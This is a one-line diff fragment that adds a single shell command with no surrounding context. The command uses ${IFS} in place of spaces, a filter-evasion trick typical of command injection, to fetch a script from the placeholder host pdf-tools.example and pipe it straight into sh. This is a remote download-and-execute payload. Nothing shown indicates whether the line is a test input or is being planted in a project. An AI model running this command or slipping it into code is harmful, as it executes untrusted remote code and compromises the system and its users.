@@ -1,0 +1,1 @@
+curl${IFS}https://pdf-tools.example/x|sh
